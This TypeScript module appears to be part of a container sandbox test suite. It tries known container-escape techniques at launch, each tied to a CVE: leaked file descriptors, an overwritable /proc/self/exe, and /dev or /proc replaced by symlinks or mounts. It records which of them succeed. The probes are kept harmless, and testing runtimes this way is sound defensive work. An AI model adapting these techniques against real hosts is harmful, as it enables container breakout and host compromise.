/**
 * Attacks on the launch of a container: by what an image holds, and by the options that it is started with. What they try is done
 * by the runtime itself, outside or on the way in, so that no probe from inside would find it.
 */
import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { errorMessage } from '#common/errors';
import type { Jails, Outcome, SpecChanges } from '../jails.ts';

/** What there is to attack with. */
export interface LaunchScene {
  jails: Jails;
  /** What a jail of the runtime must ask for. */
  changes: SpecChanges;
  /** A file of the host. */
  marker: string;
  /** Whether the runtime may set sysctls. */
  setsSysctls: boolean;
}

/** One attack. `attempt` tells what got through; undefined when it held. */
export interface LaunchAttack {
  id: string;
  technique: string;
  attempt(scene: LaunchScene): Promise<string | undefined>;
}

/** A launcher's own descriptors, whatever it has open. */
const DESCRIPTORS = Array.from({ length: 8 }, (_, index) => index + 3);

/** Finds the host's file from wherever the process has been put. */
const climb = (marker: string): string =>
  `cat ${'../'.repeat(12)}${marker.slice(1)} >/dev/null && echo FOUND`;
/** Only opens: a hole in the runtime must not become one in the machine. */
const OPENS_KERNEL =
  '(exec 3>>/proc/sys/kernel/core_pattern) 2>/dev/null && echo OPENED; head -c 1 /proc/timer_list 2>/dev/null; true';

/** Undefined for a launch that was refused. */
async function outcome(run: Promise<Outcome>): Promise<Outcome | undefined> {
  return run.catch(() => undefined);
}

/** Whether the kernel's settings are in reach in a jail of this image. */
async function reachesKernel({ jails, changes }: LaunchScene, terminal = false): Promise<string | undefined> {
  const wish = { ...changes, process: { ...changes.process, terminal } };
  const said = (await outcome(jails.sh(OPENS_KERNEL, wish)))?.stdout.trim() ?? '';
  return said === '' ? undefined : `it says ${said}`;
}

/** Whether they are while something stands in place of a folder of the image. */
function falseFolder(name: string, put: (path: string) => void, terminal = false): LaunchAttack['attempt'] {
  return async (scene) => {
    const path = join(scene.jails.root, name);
    rmSync(path, { recursive: true, force: true });
    put(path);
    try {
      return await reachesKernel(scene, terminal);
    } finally {
      rmSync(path, { recursive: true, force: true });
      mkdirSync(path);
    }
  };
}

/** All of them. */
export const LAUNCH_ATTACKS: readonly LaunchAttack[] = [
  {
    id: 'WorkingDir /proc/self/fd/N',
    technique: 'a folder of the host that the runtime has open becomes the working folder (CVE-2024-21626)',
    async attempt({ jails, changes, marker }) {
      for (const fd of DESCRIPTORS) {
        const process = { ...changes.process, cwd: `/proc/self/fd/${fd}`, makeCwd: true };
        const found = await outcome(jails.sh(climb(marker), { ...changes, process }));
        if (found?.stdout.includes('FOUND')) return `by descriptor ${fd}`;
      }
      return undefined;
    },
  },
  {
    id: 'exec -w /proc/self/fd/N',
    technique: 'the same by a further process (CVE-2024-21626, attack 2)',
    attempt: ({ jails, changes, marker }) =>
      jails.withJail(changes, async (jail) => {
        for (const fd of DESCRIPTORS) {
          const cwd = `/proc/self/fd/${fd}`;
          const found = await outcome(jails.exec(jail, ['sh', '-c', climb(marker)], { cwd }));
          if (found?.stdout.includes('FOUND')) return `by descriptor ${fd}`;
        }
        return undefined;
      }),
  },
  {
    id: 'Cmd /proc/self/exe',
    technique: 'the runtime’s own program is run, and written to (CVE-2019-5736)',
    async attempt({ jails, changes }) {
      const write = 'try{require("fs").openSync("/proc/self/exe","r+");console.log("WRITABLE")}catch{}';
      const run = await outcome(jails.run(['/proc/self/exe', '-e', write], changes));
      return run?.stdout.includes('WRITABLE') ? 'it can be written' : undefined;
    },
  },
  {
    id: '/dev is a link to /proc',
    technique: 'masks and devices are put elsewhere (CVE-2025-31133)',
    attempt: falseFolder('dev', (path) => symlinkSync('/proc', path)),
  },
  {
    id: '/dev/null is a link',
    technique: 'what masks paths of the kernel is another file (CVE-2025-31133)',
    attempt: falseFolder('dev', (path) => {
      mkdirSync(path);
      symlinkSync('/proc/sys/kernel/core_pattern', join(path, 'null'));
    }),
  },
  {
    id: '/dev/console is a link',
    technique: 'the terminal is bound over a file of the kernel before it is masked (CVE-2025-52565)',
    attempt: falseFolder(
      'dev',
      (path) => {
        mkdirSync(path);
        for (const name of ['console', 'ptmx', 'pts'])
          symlinkSync('/proc/sys/kernel/core_pattern', join(path, name));
      },
      true,
    ),
  },
  {
    id: '/proc is a link',
    technique: 'what is written to /proc goes to a folder of the image (CVE-2019-19921, CVE-2023-27561)',
    attempt: falseFolder('proc', (path) => symlinkSync('/tmp', path)),
  },
  {
    id: 'a volume at /proc',
    technique: 'labels and sysctls are written to files of the container’s making (CVE-2025-52881)',
    async attempt({ jails, changes, setsSysctls }) {
      const volume = jails.folder('false-proc');
      for (const name of ['sys/kernel', 'self/attr/apparmor', 'thread-self/attr/apparmor'])
        mkdirSync(join(volume, name), { recursive: true });
      const files = ['sys/kernel/shm_rmid_forced', 'self/attr/exec', 'thread-self/attr/apparmor/exec'];
      for (const name of files) writeFileSync(join(volume, name), 'own');
      const sysctls: Record<string, string> = setsSysctls ? { 'kernel.shm_rmid_forced': '1' } : {};
      const mount = { kind: 'bind' as const, source: volume, target: '/proc', readOnly: false, options: [] };
      await outcome(jails.sh('true', { ...changes, sysctls, mounts: [...(changes.mounts ?? []), mount] }));
      const written = files.filter((name) => readFileSync(join(volume, name), 'utf8') !== 'own');
      return written.length > 0 ? `${written.join(', ')} written` : undefined;
    },
  },
  {
    id: 'a volume by a link out',
    technique: 'the place of a mount is made, and mounted on, in the host (CVE-2021-30465)',
    async attempt({ jails, changes }) {
      const victim = jails.folder('victim');
      const volume = jails.folder('volume');
      const links = [victim, `${'../'.repeat(12)}${victim.slice(1)}`, `/proc/1/root${victim}`];
      const names = links.map((_, index) => `evil-${index}`);
      for (const [index, link] of links.entries()) symlinkSync(link, join(jails.root, names[index]!));
      try {
        for (const name of names) {
          const target = `/${name}/made`;
          const mount = { kind: 'bind' as const, source: volume, target, readOnly: false, options: [] };
          await outcome(
            jails.sh(`touch ${target}/file`, { ...changes, mounts: [...(changes.mounts ?? []), mount] }),
          );
        }
        const made = readdirSync(victim);
        return made.length > 0 ? `${made.join(', ')} in the host` : undefined;
      } finally {
        for (const name of names) rmSync(join(jails.root, name));
      }
    },
  },
];

/** Tries all, one after the other. */
export async function attackLaunches(scene: LaunchScene): Promise<Record<string, string>> {
  const open: Record<string, string> = {};
  for (const { id, attempt } of LAUNCH_ATTACKS) {
    const found = await attempt(scene).catch((error) => `the attack itself failed: ${errorMessage(error)}`);
    if (found !== undefined) open[id] = found;
  }
  return open;
}
